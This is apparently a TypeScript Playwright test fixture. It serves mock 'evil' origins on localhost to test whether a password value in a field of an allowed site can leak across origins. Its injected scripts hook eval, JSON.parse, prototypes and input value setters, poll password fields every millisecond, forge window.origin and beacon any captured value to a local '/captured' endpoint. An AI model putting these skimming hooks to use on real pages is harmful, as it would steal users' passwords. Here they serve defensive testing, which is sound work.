import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import type { BrowserContext } from '@playwright/test';

/** Hooks everything through which a value could come to a page, and sends what holds the value to `/captured`. */
const HOOKS = (value: string): string => `
  const send = navigator.sendBeacon.bind(navigator);
  const report = (how, text) => { if (String(text).includes(${JSON.stringify(value)})) send('/captured', how); };
  const hook = (owner, name) => {
    const own = owner[name];
    owner[name] = function (...args) {
      for (const arg of args) report(name, typeof arg === 'object' ? Object.values(arg ?? {}).map((one) => Object.values(one ?? '').join()).join() : arg);
      return new.target ? Reflect.construct(own, args, new.target) : Reflect.apply(own, this, args);
    };
  };
  hook(window, 'eval');
  hook(window, 'Function');
  hook(JSON, 'parse');
  hook(Map.prototype, 'get');
  hook(Map.prototype, 'set');
  hook(Array.prototype, 'push');
  hook(Array.prototype, 'map');
  hook(Function.prototype, 'call');
  hook(EventTarget.prototype, 'dispatchEvent');
  const watch = (prototype) => {
    const { get, set } = Object.getOwnPropertyDescriptor(prototype, 'value');
    Object.defineProperty(prototype, 'value', { get, set(text) { report('setter', text); set.call(this, text); } });
  };
  watch(HTMLInputElement.prototype);
  Object.defineProperty(Object.prototype, 'value', { configurable: true, get() { return undefined; }, set(text) { report('member', text); Object.defineProperty(this, 'value', { value: text, writable: true, enumerable: true, configurable: true }); } });`;

/** Reads the field whenever it changes, by event, by mutation and by time. */
const READERS = `
  const read = (how) => { for (const input of document.querySelectorAll('input')) report(how, input.value); };
  for (const type of ['input', 'change', 'keydown', 'keyup', 'focusin']) addEventListener(type, () => read(type), true);
  new MutationObserver(() => read('mutation')).observe(document, { subtree: true, childList: true, attributes: true });
  setInterval(() => read('time'), 1);`;

/** Claims to be the allowed page. */
const FORGERY = (origin: string): string => `
  for (const name of ['origin', 'isSecureContext'])
    Object.defineProperty(window, name, { get: () => (name === 'origin' ? '${origin}' : true) });`;

const FIELD = '<label>Password <input type="password"></label>';

export interface HostileSite {
  /** Ways in which a page of another origin got the value. */
  readonly captured: string[];
}

/**
 * Serves `https://app.acme.example`, which may have the value, and hosts whose name contains `evil`, which try to get it.
 * A page has a field, and the frame and the script that its URL asks for as `frame` and `script`.
 */
export async function serveHostileSite(context: BrowserContext, value: string): Promise<HostileSite> {
  const captured: string[] = [];
  await context.route('**/*', async (route) => {
    const { hostname, pathname, searchParams } = new URL(route.request().url());
    if (pathname === '/captured') {
      captured.push(`${hostname}: ${route.request().postData()}`);
      await route.fulfill({ status: 204 });
      return;
    }
    const body = pageFor(hostname, searchParams, 'https://app.acme.example', value);
    await route.fulfill({ contentType: 'text/html', body });
  });
  return { captured };
}

/** Three sites on one port of this machine, which answer faster than a route. */
export interface HostileServer extends HostileSite, AsyncDisposable {
  /** Origin that may have the value. */
  readonly allowed: string;
  /** Origin of another site. */
  readonly evil: string;
  /** Another origin of the same site. */
  readonly sibling: string;
}

/** Starts a server of the pages of `serveHostileSite()`. Browsers resolve the names below `localhost` to this machine. */
export async function startHostileServer(value: string): Promise<HostileServer> {
  const captured: string[] = [];
  let allowed = '';
  const server = createServer((request, response) => {
    const { hostname, pathname, searchParams } = new URL(request.url ?? '/', `http://${request.headers.host}`);
    if (pathname === '/captured') {
      void text(request).then((how) => captured.push(`${hostname}: ${how}`));
      response.writeHead(204).end();
    } else if (pathname === '/worker.js') response.writeHead(200, { 'content-type': 'text/javascript' }).end(WORKER);
    else if (pathname === '/favicon.ico') response.writeHead(404).end();
    else {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(pageFor(hostname, searchParams, allowed, value));
    }
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  allowed = `http://app.acme.localhost:${port}`;
  return {
    captured,
    allowed,
    evil: `http://evil.localhost:${port}`,
    sibling: `http://evil.acme.localhost:${port}`,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

/** A service worker that answers with a form of its own. */
const WORKER = `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    if (event.request.mode !== 'navigate') return;
    event.respondWith(new Response('${FIELD} From a worker', { headers: { 'content-type': 'text/html' } }));
  });`;

function pageFor(hostname: string, parameters: URLSearchParams, allowed: string, value: string): string {
  const frame = parameters.get('frame');
  const attack = hostname.includes('evil') ? `<script>${FORGERY(allowed)}${HOOKS(value)}</script>` : '';
  const readers = hostname.includes('evil') ? `<script>${READERS}</script>` : '';
  const script = `<script>${parameters.get('script') ?? ''}</script>`;
  return `${attack}${FIELD}${frame ? `<iframe src="${frame}"></iframe>` : ''}${readers}${script}`;
}
